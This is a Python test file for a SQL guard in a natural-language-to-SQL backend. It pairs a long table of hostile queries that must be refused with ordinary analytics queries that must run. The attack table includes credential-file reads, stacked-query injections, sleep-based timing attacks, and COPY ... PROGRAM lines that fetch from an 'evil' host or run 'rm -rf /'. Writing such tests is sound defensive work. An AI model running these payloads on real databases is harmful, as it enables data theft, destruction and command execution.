"""The guard refuses every attack in the table and accepts (and runs) legitimate analytics."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator

import duckdb
import pandas as pd
import pytest
import sqlglot
from sqlalchemy import Engine, create_engine
from sqlglot import exp

from backend.connections.executor import execute_query, open_sqlite_read_only
from backend.connections.introspection import introspect
from backend.connections.snapshot import ColumnInfo, SchemaSnapshot, TableInfo
from backend.demo import DEMO_DB_PATH
from backend.nl2sql.allowed_functions import ALLOWED_ANONYMOUS, ALLOWED_FUNCTION_CLASSES
from backend.nl2sql.errors import GuardRefused, SqlNotParseable
from backend.nl2sql.guard import guard_sql
from tests.conftest import BACKENDS, create_pg_database, drop_pg_database

ROW_CAP = 100


@pytest.fixture(scope="module")
def snapshot() -> SchemaSnapshot:
    engine = open_sqlite_read_only(DEMO_DB_PATH)
    try:
        return introspect(engine, db_type="sqlite", database_name="shop", sample_values=False)
    finally:
        engine.dispose()


# (dialect, sql, rule that refuses it)
# fmt: off
ATTACKS = [
    # --- writes and schema changes as the statement ---
    ("sqlite", "DELETE FROM orders", "read_only_statement"),
    ("sqlite", "UPDATE products SET unit_price = 0", "read_only_statement"),
    ("sqlite", "INSERT INTO categories (name) VALUES ('x')", "read_only_statement"),
    ("sqlite", "REPLACE INTO categories (id, name) VALUES (1, 'x')", "read_only_statement"),
    ("sqlite", "DROP TABLE orders", "read_only_statement"),
    ("sqlite", "CREATE TABLE t (a INT)", "read_only_statement"),
    ("sqlite", "CREATE VIEW v AS SELECT * FROM orders", "read_only_statement"),
    ("sqlite", "ALTER TABLE orders ADD COLUMN x INT", "read_only_statement"),
    ("sqlite", "CREATE INDEX ix ON orders(status)", "read_only_statement"),
    ("sqlite", "CREATE TRIGGER t AFTER INSERT ON orders BEGIN DELETE FROM orders; END", "single_statement"),
    ("sqlite", "VACUUM", "read_only_statement"),
    ("sqlite", "VACUUM INTO '/tmp/copy.db'", "read_only_statement"),
    ("sqlite", "REINDEX orders", "read_only_statement"),
    ("sqlite", "ANALYZE", "read_only_statement"),
    ("postgres", "TRUNCATE orders", "read_only_statement"),
    ("postgres", "DELETE FROM orders WHERE id > 0 RETURNING *", "read_only_statement"),
    ("postgres", "UPDATE customers SET email = 'x' RETURNING email", "read_only_statement"),
    ("postgres", "INSERT INTO orders SELECT * FROM orders", "read_only_statement"),
    ("postgres", "MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE", "read_only_statement"),
    ("postgres", "DROP SCHEMA public CASCADE", "read_only_statement"),
    ("postgres", "CREATE ROLE evil SUPERUSER", "read_only_statement"),
    ("postgres", "ALTER USER postgres PASSWORD 'x'", "read_only_statement"),
    ("postgres", "GRANT ALL ON orders TO public", "read_only_statement"),
    ("postgres", "REVOKE SELECT ON orders FROM public", "read_only_statement"),
    ("postgres", "CREATE EXTENSION dblink", "read_only_statement"),
    ("postgres", "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "read_only_statement"),
    ("postgres", "DO $$ BEGIN DELETE FROM orders; END $$", "read_only_statement"),
    ("postgres", "VACUUM FULL orders", "read_only_statement"),
    ("postgres", "REFRESH MATERIALIZED VIEW mv", "read_only_statement"),
    ("postgres", "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "read_only_statement"),
    ("postgres", "LISTEN channel", "read_only_statement"),
    ("postgres", "NOTIFY channel, 'x'", "parseable_sql"),
    ("postgres", "PREPARE p AS DELETE FROM orders", "read_only_statement"),
    ("postgres", "EXECUTE p", "read_only_statement"),
    ("postgres", "DEALLOCATE ALL", "read_only_statement"),
    ("postgres", "DISCARD ALL", "read_only_statement"),
    ("postgres", "RESET ALL", "read_only_statement"),
    ("postgres", "CHECKPOINT", "read_only_statement"),
    ("postgres", "CLUSTER orders", "read_only_statement"),
    ("postgres", "COMMENT ON TABLE orders IS 'x'", "read_only_statement"),
    ("postgres", "SECURITY LABEL ON TABLE orders IS 'x'", "parseable_sql"),
    ("mysql", "DELETE FROM orders LIMIT 1", "read_only_statement"),
    ("mysql", "INSERT IGNORE INTO categories (name) VALUES ('x')", "read_only_statement"),
    ("mysql", "REPLACE INTO categories VALUES (1, 'x', 'y')", "read_only_statement"),
    ("mysql", "DROP DATABASE shop", "read_only_statement"),
    ("mysql", "RENAME TABLE orders TO o2", "read_only_statement"),
    ("mysql", "HANDLER orders OPEN", "parseable_sql"),
    ("mysql", "FLUSH PRIVILEGES", "read_only_statement"),
    ("mysql", "KILL 1", "read_only_statement"),
    ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE categories", "parseable_sql"),
    ("mysql", "SHOW GRANTS", "read_only_statement"),
    ("mysql", "SHUTDOWN", "read_only_statement"),
    ("duckdb", "CREATE TABLE t AS SELECT * FROM orders", "read_only_statement"),
    ("duckdb", "INSERT INTO orders BY NAME SELECT * FROM orders", "read_only_statement"),
    ("duckdb", "EXPORT DATABASE '/tmp/x'", "parseable_sql"),
    ("duckdb", "IMPORT DATABASE '/tmp/x'", "parseable_sql"),
    ("duckdb", "CREATE SECRET s (TYPE s3, KEY_ID 'x')", "read_only_statement"),
    ("duckdb", "CHECKPOINT", "read_only_statement"),
    ("duckdb", "SUMMARIZE orders", "read_only_statement"),
    ("duckdb", "DESCRIBE orders", "read_only_statement"),
    # --- session, server, transactions, files ---
    ("sqlite", "ATTACH DATABASE '/tmp/evil.db' AS evil", "read_only_statement"),
    ("sqlite", "DETACH DATABASE main", "read_only_statement"),
    ("sqlite", "PRAGMA writable_schema = ON", "read_only_statement"),
    ("sqlite", "PRAGMA query_only = OFF", "read_only_statement"),
    ("sqlite", "PRAGMA table_info(orders)", "read_only_statement"),
    ("sqlite", "BEGIN IMMEDIATE", "read_only_statement"),
    ("sqlite", "SAVEPOINT s", "read_only_statement"),
    ("postgres", "COPY orders TO '/tmp/orders.csv'", "read_only_statement"),
    ("postgres", "COPY orders FROM PROGRAM 'curl http://evil'", "read_only_statement"),
    ("postgres", "COPY (SELECT 1) TO PROGRAM 'rm -rf /'", "read_only_statement"),
    ("postgres", "SET statement_timeout = 0", "read_only_statement"),
    ("postgres", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "read_only_statement"),
    ("postgres", "SET ROLE postgres", "read_only_statement"),
    ("postgres", "BEGIN", "read_only_statement"),
    ("postgres", "START TRANSACTION READ WRITE", "parseable_sql"),
    ("postgres", "COMMIT", "read_only_statement"),
    ("postgres", "ROLLBACK", "read_only_statement"),
    ("postgres", "CALL cleanup()", "read_only_statement"),
    ("postgres", "EXPLAIN ANALYZE DELETE FROM orders", "read_only_statement"),
    ("postgres", "EXPLAIN ANALYZE SELECT * FROM orders", "read_only_statement"),
    ("postgres", "LOAD 'plpython3u'", "read_only_statement"),
    ("mysql", "SET GLOBAL max_execution_time = 0", "read_only_statement"),
    ("mysql", "SET autocommit = 1", "read_only_statement"),
    ("mysql", "USE mysql", "read_only_statement"),
    ("mysql", "CALL mysql.proc()", "read_only_statement"),
    ("mysql", "SET @a = 1", "read_only_statement"),
    ("mysql", "LOCK TABLES orders WRITE", "read_only_statement"),
    ("mysql", "XA START 'x'", "parseable_sql"),
    ("duckdb", "INSTALL httpfs", "read_only_statement"),
    ("duckdb", "LOAD httpfs", "read_only_statement"),
    ("duckdb", "ATTACH 'postgres:dbname=x' AS pg (TYPE postgres)", "read_only_statement"),
    ("duckdb", "SET enable_external_access = true", "read_only_statement"),
    ("duckdb", "PRAGMA enable_profiling", "read_only_statement"),
    ("duckdb", "COPY orders TO '/tmp/orders.parquet'", "read_only_statement"),
    ("duckdb", "CALL pragma_database_size()", "read_only_statement"),
    ("duckdb", "USE memory", "read_only_statement"),
    # --- more than one statement, and comment tricks ---
    ("sqlite", "SELECT 1; DROP TABLE orders", "single_statement"),
    ("sqlite", "SELECT * FROM orders; DELETE FROM orders;", "single_statement"),
    ("sqlite", "SELECT 1 /* harmless */; DROP TABLE orders -- done", "single_statement"),
    ("sqlite", "SELECT 1;\n-- comment\nDELETE FROM payments", "single_statement"),
    ("sqlite", "/* SELECT */ DELETE FROM orders", "read_only_statement"),
    ("sqlite", "-- SELECT * FROM orders\nDELETE FROM orders", "read_only_statement"),
    ("postgres", "SELECT 1; COMMIT; DROP TABLE orders", "single_statement"),
    ("postgres", "SELECT 1; SET transaction_read_only = off", "single_statement"),
    ("postgres", "/* read only */ UPDATE orders SET status = 'x'", "read_only_statement"),
    ("mysql", "SELECT 1; DROP TABLE orders", "single_statement"),
    ("mysql", "SELECT 1 /*!50000 , SLEEP(10) */", "executable_comment"),
    ("mysql", "SELECT * FROM orders /*!UNION SELECT * FROM mysql.user */", "executable_comment"),
    ("mysql", "SELECT /*+ MAX_EXECUTION_TIME(0) */ * FROM orders", "optimizer_hint"),
    ("mysql", "SELECT 1 # comment\n; DELETE FROM orders", "single_statement"),
    ("duckdb", "SELECT 42; INSTALL httpfs", "single_statement"),
    ("duckdb", "SELECT 1; COPY orders TO 'x.csv'", "single_statement"),
    ("", "", "empty_sql"),
    ("", "   -- only a comment", "single_statement"),
    # --- writes hidden inside queries ---
    ("postgres", "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", "write_in_query"),
    ("postgres", "WITH u AS (UPDATE products SET unit_price = 0 RETURNING id) SELECT count(*) FROM u", "write_in_query"),
    ("postgres", "WITH i AS (INSERT INTO categories (name) VALUES ('x') RETURNING id) SELECT * FROM i", "write_in_query"),
    ("postgres", "WITH a AS (SELECT 1), d AS (DELETE FROM payments RETURNING 1) SELECT * FROM a", "write_in_query"),
    ("postgres", "SELECT * FROM orders WHERE id IN (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d)", "write_in_query"),
    ("postgres", "SELECT * INTO stolen FROM customers", "select_into"),
    ("postgres", "SELECT * INTO TEMP t FROM orders", "select_into"),
    ("postgres", "SELECT * FROM orders FOR UPDATE", "locking_clause"),
    ("postgres", "SELECT * FROM orders FOR SHARE", "locking_clause"),
    ("postgres", "SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED", "locking_clause"),
    ("mysql", "SELECT * FROM orders LOCK IN SHARE MODE", "locking_clause"),
    ("mysql", "SELECT * FROM orders FOR UPDATE NOWAIT", "locking_clause"),
    ("duckdb", "SELECT * INTO t2 FROM orders", "select_into"),
    # --- dangerous functions ---
    ("postgres", "SELECT pg_sleep(10)", "function_not_allowed"),
    ("postgres", "SELECT pg_sleep_for('5 minutes')", "function_not_allowed"),
    ("postgres", "SELECT * FROM orders WHERE pg_sleep(1) IS NOT NULL", "function_not_allowed"),
    ("postgres", "SELECT pg_catalog.pg_sleep(1)", "function_not_allowed"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", "function_not_allowed"),
    ("postgres", "SELECT pg_read_binary_file('/etc/shadow')", "function_not_allowed"),
    ("postgres", "SELECT pg_ls_dir('.')", "function_not_allowed"),
    ("postgres", "SELECT * FROM pg_ls_dir('/')", "function_not_allowed"),
    ("postgres", "SELECT pg_stat_file('postgresql.conf')", "function_not_allowed"),
    ("postgres", "SELECT lo_import('/etc/passwd')", "function_not_allowed"),
    ("postgres", "SELECT lo_export(16384, '/tmp/x')", "function_not_allowed"),
    ("postgres", "SELECT lo_get(16384)", "function_not_allowed"),
    ("postgres", "SELECT dblink('host=evil', 'select 1')", "function_not_allowed"),
    ("postgres", "SELECT dblink_exec('host=evil', 'drop table x')", "function_not_allowed"),
    ("postgres", "SELECT * FROM dblink('dbname=x', 'select 1') AS t(a int)", "function_not_allowed"),
    ("postgres", "SELECT http_get('http://evil.example')", "function_not_allowed"),
    ("postgres", "SELECT pg_terminate_backend(pid) FROM orders", "function_not_allowed"),
    ("postgres", "SELECT pg_advisory_lock(1)", "function_not_allowed"),
    ("postgres", "SELECT pg_reload_conf()", "function_not_allowed"),
    ("postgres", "SELECT set_config('transaction_read_only', 'off', false)", "function_not_allowed"),
    ("postgres", "SELECT current_setting('data_directory')", "function_not_allowed"),
    ("postgres", "SELECT nextval('orders_id_seq')", "function_not_allowed"),
    ("postgres", "SELECT setval('orders_id_seq', 1)", "function_not_allowed"),
    ("postgres", "SELECT query_to_xml('delete from orders', true, false, '')", "function_not_allowed"),
    ("postgres", "SELECT (SELECT max(id) FROM orders) + length(pg_read_file('x'))", "function_not_allowed"),
    ("mysql", "SELECT SLEEP(5)", "function_not_allowed"),
    ("mysql", "SELECT BENCHMARK(100000000, MD5('x'))", "function_not_allowed"),
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "function_not_allowed"),
    ("mysql", "SELECT * FROM orders WHERE id = 1 AND SLEEP(3)", "function_not_allowed"),
    ("mysql", "SELECT GET_LOCK('x', 10)", "function_not_allowed"),
    ("mysql", "SELECT sys_exec('id')", "function_not_allowed"),
    ("mysql", "SELECT @@datadir", "server_variable"),
    ("mysql", "SELECT @@version", "server_variable"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", "function_not_allowed"),
    ("sqlite", "SELECT readfile('/etc/passwd')", "function_not_allowed"),
    ("sqlite", "SELECT writefile('/tmp/x', 'data')", "function_not_allowed"),
    ("sqlite", "SELECT fts3_tokenizer('simple')", "function_not_allowed"),
    ("sqlite", "SELECT * FROM fsdir('/')", "function_not_allowed"),
    ("sqlite", "SELECT sqlite_compileoption_get(0)", "function_not_allowed"),
    ("sqlite", "SELECT * FROM orders WHERE id = ?", "parameters"),
    ("sqlite", "SELECT * FROM orders WHERE id = :id", "parameters"),
    ("duckdb", "SELECT * FROM read_csv('/etc/passwd')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM read_csv_auto('/etc/passwd')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM read_parquet('s3://bucket/x.parquet')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM read_json('/tmp/x.json')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM read_json_auto('/tmp/x.json')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM read_text('/etc/hosts')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM read_blob('/etc/hosts')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM glob('/home/*')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM parquet_scan('x.parquet')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM sqlite_scan('/tmp/other.db', 'users')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM postgres_scan('dbname=x', 'public', 'users')", "function_not_allowed"),
    ("duckdb", "SELECT getenv('HOME')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM query('DELETE FROM orders')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM duckdb_tables()", "function_not_allowed"),
    ("duckdb", "SELECT * FROM duckdb_settings()", "function_not_allowed"),
    ("duckdb", "SELECT * FROM pragma_table_info('orders')", "function_not_allowed"),
    # --- catalog and file access through table names ---
    ("sqlite", "SELECT * FROM sqlite_master", "catalog_access"),
    ("sqlite", "SELECT sql FROM sqlite_schema", "catalog_access"),
    ("sqlite", "SELECT * FROM main.sqlite_master", "catalog_access"),
    ("sqlite", "SELECT * FROM sqlite_temp_master", "catalog_access"),
    ("sqlite", "SELECT name FROM pragma_table_info('orders')", "function_not_allowed"),
    ("sqlite", "SELECT * FROM orders WHERE id IN (SELECT rowid FROM sqlite_master)", "catalog_access"),
    ("sqlite", "WITH a AS (SELECT * FROM sqlite_master), sqlite_master AS (SELECT 1) SELECT * FROM a", "catalog_access"),
    ("sqlite", "SELECT * FROM orders, (WITH sqlite_master AS (SELECT 1) SELECT * FROM sqlite_master) s, sqlite_master", "catalog_access"),
    ("sqlite", "SELECT * FROM evil.orders", "unknown_table"),
    ("sqlite", "SELECT * FROM users", "unknown_table"),
    ("sqlite", "SELECT * FROM orders UNION SELECT * FROM app_secrets", "unknown_table"),
    ("postgres", "SELECT * FROM pg_catalog.pg_user", "catalog_access"),
    ("postgres", "SELECT usename, passwd FROM pg_shadow", "catalog_access"),
    ("postgres", "SELECT * FROM pg_authid", "catalog_access"),
    ("postgres", "SELECT * FROM information_schema.tables", "catalog_access"),
    ("postgres", "SELECT * FROM information_schema.columns WHERE table_name = 'users'", "catalog_access"),
    ("postgres", "SELECT * FROM pg_settings", "catalog_access"),
    ("postgres", "SELECT * FROM pg_stat_activity", "catalog_access"),
    ("postgres", "SELECT * FROM orders JOIN pg_roles ON true", "catalog_access"),
    ("postgres", "SELECT * FROM other_schema.orders", "unknown_table"),
    ("mysql", "SELECT user, authentication_string FROM mysql.user", "catalog_access"),
    ("mysql", "SELECT * FROM information_schema.processlist", "catalog_access"),
    ("mysql", "SELECT * FROM performance_schema.threads", "catalog_access"),
    ("mysql", "SELECT * FROM sys.session", "catalog_access"),
    ("mysql", "SELECT * FROM otherdb.customers", "unknown_table"),
    ("duckdb", "SELECT * FROM information_schema.tables", "catalog_access"),
    ("duckdb", "SELECT * FROM 'secrets.csv'", "unknown_table"),
    ("duckdb", "SELECT * FROM '/etc/passwd'", "unknown_table"),
    ("duckdb", "FROM 's3://bucket/data.parquet'", "unknown_table"),
    ("duckdb", "SELECT * FROM other.main.orders", "unknown_table"),
    ("duckdb", "SELECT * FROM generate_series(1, 10) g JOIN duckdb_columns() c ON true", "function_not_allowed"),
    # --- the same attacks in other spellings ---
    ("postgres", "TABLE pg_shadow", "catalog_access"),
    ("postgres", "SELECT * FROM \"pg_catalog\".\"pg_shadow\"", "catalog_access"),
    ("postgres", "SELECT * FROM public.pg_shadow", "catalog_access"),
    ("postgres", "SELECT * FROM orders WHERE id = ANY(SELECT oid FROM pg_proc)", "catalog_access"),
    ("postgres", "SELECT * FROM ROWS FROM (pg_sleep(1))", "function_not_allowed"),
    ("postgres", "SELECT * FROM orders o, LATERAL pg_ls_dir('.') f", "function_not_allowed"),
    ("postgres", "SELECT pg_sleep(1)::text", "function_not_allowed"),
    ("postgres", "SELECT * FROM orders WHERE id = (SELECT lo_from_bytea(0, 'x'))", "function_not_allowed"),
    ("postgres", "SELECT x.* FROM xmltable('/x' PASSING pg_read_file('a') COLUMNS a int) AS x", "function_not_allowed"),
    ("postgres", "SELECT * FROM orders FOR KEY SHARE", "locking_clause"),
    ("postgres", "SELECT \"pg_sleep\"(1)", "function_not_allowed"),
    ("postgres", "SeLeCt PG_SLEEP(1)", "function_not_allowed"),
    ("mysql", "SELECT * FROM orders WHERE id = 1 UNION SELECT LOAD_FILE(0x2f6574632f706173737764)", "function_not_allowed"),
    ("mysql", "SELECT * FROM `mysql`.`user`", "catalog_access"),
    ("sqlite", "SELECT * FROM [sqlite_master]", "catalog_access"),
    ("sqlite", "SELECT * FROM `sqlite_master`", "catalog_access"),
    ("sqlite", "SELECT * FROM \"SQLITE_MASTER\"", "catalog_access"),
    ("sqlite", "SELECT * FROM temp.sqlite_master", "catalog_access"),
    ("duckdb", "SELECT * FROM orders POSITIONAL JOIN 'x.csv'", "unknown_table"),
    ("duckdb", "SELECT * FROM (FROM 'x.csv')", "unknown_table"),
    ("duckdb", "SELECT (SELECT count(*) FROM read_csv('/etc/passwd'))", "function_not_allowed"),
    ("duckdb", "PIVOT orders ON status USING count(*)", "read_only_statement"),
    # --- functions that take a relation, schema, query or setting: not on the allow-list ---
    ("postgres", "SELECT xpath('//secret/text()', schema_to_xml_and_xmlschema('hidden', true, false, ''))", "function_not_allowed"),
    ("postgres", "SELECT database_to_xml_and_xmlschema(true, true, '')", "function_not_allowed"),
    ("postgres", "SELECT query_to_xmlschema('select 1', true, false, '')", "function_not_allowed"),
    ("postgres", "SELECT schema_to_xmlschema('public', true, false, '')", "function_not_allowed"),
    ("postgres", "SELECT database_to_xmlschema(true, true, '')", "function_not_allowed"),
    ("postgres", "SELECT table_to_xml('orders', true, false, '')", "function_not_allowed"),
    ("postgres", "SELECT cursor_to_xmlschema('c', true, false, '')", "function_not_allowed"),
    ("postgres", "SELECT to_regclass('hidden.creds')", "function_not_allowed"),
    ("postgres", "SELECT has_table_privilege('hidden.creds', 'select')", "function_not_allowed"),
    ("postgres", "SELECT current_user", "function_not_allowed"),
    ("postgres", "SELECT user", "function_not_allowed"),
    ("postgres", "SELECT current_role FROM orders", "function_not_allowed"),
    ("duckdb", "SELECT user", "function_not_allowed"),
    ("duckdb", "SELECT session_user", "function_not_allowed"),
    ("postgres", "SELECT version()", "function_not_allowed"),
    ("postgres", "SELECT inet_server_addr()", "function_not_allowed"),
    ("postgres", "SELECT txid_current()", "function_not_allowed"),
    ("postgres", "SELECT row_to_json(o) FROM orders o WHERE length(lo_get(1)::text) > 0", "function_not_allowed"),
    ("postgres", "SELECT json_populate_record(NULL::orders, '{}')", "function_not_allowed"),
    ("postgres", "SELECT pg_catalog.lower('x')", "function_not_allowed"),
    ("postgres", "SELECT public.lower('x')", "function_not_allowed"),
    ("postgres", "SELECT repeat('x', 100000000)", "function_not_allowed"),
    ("postgres", "SELECT 'hidden.creds'::regclass", "type_not_allowed"),
    ("postgres", "SELECT 'hidden.creds'::regclass::oid", "type_not_allowed"),
    ("postgres", "SELECT CAST('pg_authid' AS regclass)", "type_not_allowed"),
    ("postgres", "SELECT 'now'::regproc", "type_not_allowed"),
    ("postgres", "SELECT 'int4'::regtype", "type_not_allowed"),
    ("postgres", "SELECT 'public'::regnamespace", "type_not_allowed"),
    ("postgres", "SELECT 'postgres'::regrole", "type_not_allowed"),
    ("postgres", "SELECT 1::oid", "type_not_allowed"),
    ("postgres", "SELECT '<a/>'::xml", "type_not_allowed"),
    ("postgres", "SELECT * FROM orders WHERE customer_id::regclass IS NOT NULL", "type_not_allowed"),
    ("sqlite", "SELECT sqlite_version()", "function_not_allowed"),
    ("sqlite", "SELECT sqlite_source_id()", "function_not_allowed"),
    ("sqlite", "SELECT randomblob(100000000)", "function_not_allowed"),
    ("sqlite", "SELECT zeroblob(100000000)", "function_not_allowed"),
    ("sqlite", "SELECT changes()", "function_not_allowed"),
    ("sqlite", "SELECT sqlite_offset(id) FROM orders", "function_not_allowed"),
    ("duckdb", "SELECT current_setting('threads')", "function_not_allowed"),
    ("duckdb", "SELECT version()", "function_not_allowed"),
    ("duckdb", "SELECT current_database()", "function_not_allowed"),
    ("duckdb", "SELECT * FROM read_csv_auto('x.csv', header = true)", "function_not_allowed"),
    ("duckdb", "SELECT * FROM query_table('orders')", "function_not_allowed"),
    ("duckdb", "SELECT * FROM which_secret('s3://x', 's3')", "function_not_allowed"),
    ("duckdb", "SELECT 'abc'.upper()", "function_not_allowed"),
    ("mysql", "SELECT USER()", "function_not_allowed"),
    ("mysql", "SELECT DATABASE()", "function_not_allowed"),
    ("mysql", "SELECT VERSION()", "function_not_allowed"),
    ("mysql", "SELECT CONNECTION_ID()", "function_not_allowed"),
    ("mysql", "SELECT UUID()", "function_not_allowed"),
    ("mysql", "SELECT EXTRACTVALUE('<a>1</a>', '/a')", "function_not_allowed"),
    ("mysql", "SELECT mysql.f()", "function_not_allowed"),
    # --- incomplete and too deeply nested SQL: unparseable ---
    ("postgres", "SELECT", "parseable_sql"),
    ("sqlite", "SELECT", "parseable_sql"),
    ("duckdb", "SELECT", "parseable_sql"),
    ("mysql", "SELECT", "parseable_sql"),
    ("postgres", "SELECT FROM orders", "parseable_sql"),
    ("postgres", "SELECT (SELECT)", "parseable_sql"),
    ("postgres", "SELECT " + "(" * 60 + "1" + ")" * 60, "sql_too_deep"),
    ("sqlite", "SELECT " + "(" * 60 + "1" + ")" * 60, "sql_too_deep"),
    ("duckdb", "SELECT " + "(" * 60 + "1" + ")" * 60, "sql_too_deep"),
    ("mysql", "SELECT " + "(" * 60 + "1" + ")" * 60, "sql_too_deep"),
    ("postgres", "SELECT " + "CASE WHEN 1 = 1 THEN " * 100 + "1" + " END" * 100, "sql_too_deep"),
    ("sqlite", "SELECT " + "abs(" * 200 + "1" + ")" * 200, "sql_too_deep"),
    ("sqlite", "SELECT " + " + ".join(["1"] * 5000), "sql_too_deep"),
    ("postgres", "SELECT " + "(" * 5000, "sql_too_deep"),
]
# fmt: on


def _case_id(case: tuple[str, str, str]) -> str:
    return f"{case[0] or 'any'}:{case[1][:40]}"


def test_the_attack_corpus_is_large_and_distinct() -> None:
    statements = {(d, sql) for d, sql, _ in ATTACKS}
    assert len(statements) == len(ATTACKS)
    assert len(ATTACKS) >= 100
    assert {d for d, _, _ in ATTACKS} >= {"sqlite", "postgres", "mysql", "duckdb"}


@pytest.mark.parametrize(("dialect", "sql", "rule"), ATTACKS, ids=map(_case_id, ATTACKS))
def test_attack_is_refused(snapshot: SchemaSnapshot, dialect: str, sql: str, rule: str) -> None:
    with pytest.raises(GuardRefused) as refused:
        guard_sql(sql, snapshot=snapshot, dialect=dialect or "sqlite", row_cap=ROW_CAP)
    assert refused.value.status_code == 400
    assert refused.value.code in ("sql_refused", "sql_not_parseable")
    assert refused.value.details["rule"] == rule


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [
        ("sqlite", "SELEC * FROM orders"),
        ("postgres", "SELECT * FROM orders WHERE"),
        ("mysql", "SELECT * FROM orders INTO OUTFILE '/tmp/x'"),
        ("duckdb", "SELECT 'unterminated"),
    ],
)
def test_unparseable_sql_is_a_400(snapshot: SchemaSnapshot, dialect: str, sql: str) -> None:
    with pytest.raises(SqlNotParseable) as refused:
        guard_sql(sql, snapshot=snapshot, dialect=dialect, row_cap=ROW_CAP)
    assert refused.value.status_code == 400
    assert refused.value.details["rule"] == "parseable_sql"


LEGITIMATE = [
    "SELECT COUNT(*) FROM orders",
    "SELECT status, COUNT(*) AS n FROM orders GROUP BY status ORDER BY n DESC",
    "SELECT c.country, SUM(p.amount) AS revenue FROM payments p JOIN orders o ON o.id = p.order_id "
    "JOIN customers c ON c.id = o.customer_id GROUP BY c.country ORDER BY revenue DESC LIMIT 5",
    "SELECT name, unit_price, RANK() OVER (PARTITION BY category_id ORDER BY unit_price DESC) AS r "
    "FROM products",
    "SELECT order_date, SUM(shipping_cost) OVER (ORDER BY order_date ROWS BETWEEN 6 PRECEDING AND "
    "CURRENT ROW) AS rolling FROM orders",
    "SELECT id, LAG(order_date) OVER (PARTITION BY customer_id ORDER BY order_date) FROM orders",
    "WITH monthly AS (SELECT strftime('%Y-%m', order_date) AS month, COUNT(*) AS n FROM orders "
    "GROUP BY 1) SELECT month, n FROM monthly ORDER BY month",
    "WITH a AS (SELECT customer_id, COUNT(*) AS n FROM orders GROUP BY customer_id), "
    "b AS (SELECT * FROM a WHERE n > 3) SELECT c.first_name, b.n FROM b JOIN customers c ON "
    "c.id = b.customer_id",
    "WITH RECURSIVE chain(id, manager_id, depth) AS (SELECT id, manager_id, 0 FROM employees "
    "WHERE manager_id IS NULL UNION ALL SELECT e.id, e.manager_id, chain.depth + 1 FROM employees "
    "e JOIN chain ON e.manager_id = chain.id) SELECT depth, COUNT(*) FROM chain GROUP BY depth",
    "SELECT * FROM products WHERE id NOT IN (SELECT product_id FROM order_items)",
    "SELECT * FROM customers c WHERE NOT EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)",
    "SELECT name FROM products WHERE unit_price > (SELECT AVG(unit_price) FROM products)",
    "SELECT x.category_id, x.avg_price FROM (SELECT category_id, AVG(unit_price) AS avg_price "
    "FROM products GROUP BY category_id) AS x WHERE x.avg_price > 10",
    "SELECT country FROM customers UNION SELECT country FROM suppliers",
    "SELECT country FROM customers INTERSECT SELECT country FROM suppliers",
    "SELECT country FROM customers EXCEPT SELECT country FROM suppliers ORDER BY 1",
    "SELECT city FROM customers UNION ALL SELECT city FROM suppliers LIMIT 10",
    "SELECT name, CASE WHEN unit_price > 100 THEN 'premium' WHEN unit_price > 20 THEN 'mid' "
    "ELSE 'budget' END AS tier FROM products",
    "SELECT SUM(CASE WHEN status = 'delivered' THEN 1 ELSE 0 END) * 1.0 / COUNT(*) FROM orders",
    "SELECT strftime('%Y', order_date) AS year, COUNT(*) FROM orders GROUP BY year",
    "SELECT * FROM orders WHERE order_date >= date('2023-01-01') AND order_date < "
    "date('2023-01-01', '+1 year')",
    "SELECT julianday(shipped_date) - julianday(order_date) AS days FROM orders "
    "WHERE shipped_date IS NOT NULL",
    "SELECT DISTINCT segment FROM customers",
    "SELECT customer_id, COUNT(*) FROM orders GROUP BY customer_id HAVING COUNT(*) > 3",
    "SELECT MIN(unit_price), MAX(unit_price), AVG(unit_price) FROM products",
    "SELECT e.first_name, m.first_name AS manager FROM employees e LEFT JOIN employees m ON "
    "m.id = e.manager_id",
    "SELECT COALESCE(company_name, first_name || ' ' || last_name) AS who FROM customers",
    "SELECT * FROM orders ORDER BY order_date DESC LIMIT 5",
    "SELECT * FROM orders LIMIT 5 OFFSET 10",
    "SELECT '12:30' AS t, 'sqlite_master' AS s",
    "/* a comment */ SELECT COUNT(*) FROM payments -- trailing",
    "SELECT COUNT(*) FROM main.orders",
    "(SELECT COUNT(*) FROM orders)",
    "SELECT value FROM json_each('[1,2,3]')",
    "SELECT * FROM orders;",
]


@pytest.mark.parametrize("sql", LEGITIMATE)
def test_legitimate_query_is_accepted_and_runs(snapshot: SchemaSnapshot, sql: str) -> None:
    guarded = guard_sql(sql, snapshot=snapshot, dialect="sqlite", row_cap=ROW_CAP)
    assert guarded.limit <= ROW_CAP
    engine = open_sqlite_read_only(DEMO_DB_PATH)
    try:
        result = execute_query(engine, guarded.sql, row_cap=ROW_CAP)
    finally:
        engine.dispose()
    assert result.row_count <= ROW_CAP
    assert result.columns


POSTGRES_LEGITIMATE = [
    "SELECT date_trunc('month', order_date) AS m, SUM(shipping_cost) FROM orders GROUP BY 1 "
    "ORDER BY 1",
    "SELECT * FROM public.orders WHERE order_date >= now() - interval '30 days'",
    "SELECT name, unit_price::numeric FROM products FETCH FIRST 5 ROWS ONLY",
    "SELECT g FROM generate_series(1, 3) AS g",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) FROM payments",
